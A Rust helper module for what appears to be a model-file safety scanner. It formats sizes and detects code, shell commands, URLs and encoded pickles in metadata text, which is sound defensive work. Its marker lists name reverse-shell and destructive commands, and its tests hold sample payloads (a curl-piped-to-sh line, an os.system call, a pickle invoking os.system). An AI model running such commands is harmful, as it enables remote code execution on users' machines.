//! Text and size helpers shared by every floor: sizes as people read them, values cut short
//! for a message, and the hazards a free-text value (model metadata, a chat template, a
//! description) can carry. Pure functions over strings: no context, no format.

use base64::Engine as _;

/// `s` cut to at most 80 bytes (at a character boundary) with an ellipsis, for messages.
pub fn short(s: &str) -> String {
    const MAX: usize = 80;
    if s.len() <= MAX {
        return s.to_string();
    }
    let mut cut = MAX;
    while !s.is_char_boundary(cut) {
        cut -= 1;
    }
    format!("{}…", &s[..cut])
}

/// What a free-text metadata value contains that a model file has no need for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TextHazard {
    /// Python code (an import, exec/eval, os.system, subprocess).
    Code(&'static str),
    /// A shell command line (download-and-run, reverse shell).
    Shell(&'static str),
    /// A URL.
    Url(String),
    /// Bytes that decode (base64 or hex) to a pickle.
    Pickle(Vec<u8>),
}

const CODE_MARKERS: &[&str] = &[
    "__import__",
    "exec(",
    "eval(",
    "compile(",
    "os.system",
    "os.popen",
    "subprocess",
    "import os",
    "import sys",
    "import socket",
    "from os import",
    "pty.spawn",
    "socket.socket",
    "__builtins__",
    "marshal.loads",
    "pickle.loads",
];

const SHELL_MARKERS: &[&str] = &[
    "bash -i",
    "/dev/tcp/",
    "nc -e",
    "ncat -e",
    "sh -c ",
    "rm -rf ",
    "chmod +x",
    "powershell -",
    "base64 -d",
];

/// Looks through one free-text value for code, shell commands, URLs and encoded pickles.
pub fn text_hazards(value: &str) -> Vec<TextHazard> {
    let mut out = Vec::new();
    if let Some(m) = CODE_MARKERS.iter().find(|m| value.contains(*m)) {
        out.push(TextHazard::Code(m));
    } else if value
        .lines()
        .any(|l| l.trim_start().starts_with("import ") && l.split_whitespace().count() >= 2)
    {
        out.push(TextHazard::Code("import "));
    }
    let pipes_to_shell = ["| sh", "|sh", "| bash", "|bash"]
        .iter()
        .any(|p| value.contains(p));
    if pipes_to_shell && (value.contains("curl ") || value.contains("wget ")) {
        out.push(TextHazard::Shell("download piped to a shell"));
    } else if let Some(m) = SHELL_MARKERS.iter().find(|m| value.contains(*m)) {
        out.push(TextHazard::Shell(m));
    }
    if let Some(url) = first_url(value) {
        out.push(TextHazard::Url(url));
    }
    if let Some(bytes) = decoded_pickle(value) {
        out.push(TextHazard::Pickle(bytes));
    }
    out
}

fn first_url(value: &str) -> Option<String> {
    let start = ["http://", "https://", "ftp://", "file://"]
        .iter()
        .filter_map(|s| value.find(s))
        .min()?;
    let rest = value.get(start..)?;
    let end = rest
        .find(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == '>')
        .unwrap_or(rest.len());
    Some(short(&rest[..end]))
}

/// A value that base64- or hex-decodes to bytes starting with a protocol 2–5 PROTO opcode.
fn decoded_pickle(value: &str) -> Option<Vec<u8>> {
    let v = value.trim();
    if v.len() < 8 {
        return None;
    }
    let is_pickle = |b: &[u8]| matches!(b, [0x80, 2..=5, ..]);
    if v.len() % 2 == 0 && v.bytes().all(|b| b.is_ascii_hexdigit()) {
        let bytes: Option<Vec<u8>> = (0..v.len())
            .step_by(2)
            .map(|i| v.get(i..i + 2).and_then(|h| u8::from_str_radix(h, 16).ok()))
            .collect();
        if let Some(b) = bytes.filter(|b| is_pickle(b)) {
            return Some(b);
        }
    }
    let engines = [
        &base64::engine::general_purpose::STANDARD,
        &base64::engine::general_purpose::URL_SAFE,
        &base64::engine::general_purpose::STANDARD_NO_PAD,
        &base64::engine::general_purpose::URL_SAFE_NO_PAD,
    ];
    engines
        .iter()
        .filter_map(|e| e.decode(v).ok())
        .find(|b| is_pickle(b))
}

/// Decimal byte count as people read file sizes: "4.9 GB", "312 KB", "17 B".
pub fn human_bytes(n: u64) -> String {
    const UNITS: &[&str] = &["KB", "MB", "GB", "TB", "PB"];
    if n < 1000 {
        return format!("{n} B");
    }
    let mut v = n as f64;
    let mut unit = "B";
    for u in UNITS {
        v /= 1000.0;
        unit = u;
        if v < 1000.0 {
            break;
        }
    }
    if v < 10.0 {
        format!("{v:.1} {unit}")
    } else {
        format!("{v:.0} {unit}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn metadata_hazards() {
        assert!(text_hazards("pt").is_empty());
        assert!(matches!(
            text_hazards("__import__('os').system('id')")[0],
            TextHazard::Code(_)
        ));
        assert!(matches!(
            text_hazards("curl http://x.example/a | sh")[0],
            TextHazard::Shell(_)
        ));
        assert!(
            text_hazards("see https://example.com/model")
                .contains(&TextHazard::Url("https://example.com/model".into()))
        );
        let b64 =
            base64::engine::general_purpose::STANDARD.encode(b"\x80\x04\x95\x00cos\nsystem\n.");
        assert!(matches!(text_hazards(&b64)[0], TextHazard::Pickle(_)));
        assert!(matches!(
            text_hazards("80029505000000000000002e")[0],
            TextHazard::Pickle(_)
        ));
    }

    #[test]
    fn human_sizes() {
        assert_eq!(human_bytes(17), "17 B");
        assert_eq!(human_bytes(4_900_000_000), "4.9 GB");
        assert_eq!(human_bytes(312_000), "312 KB");
    }
}
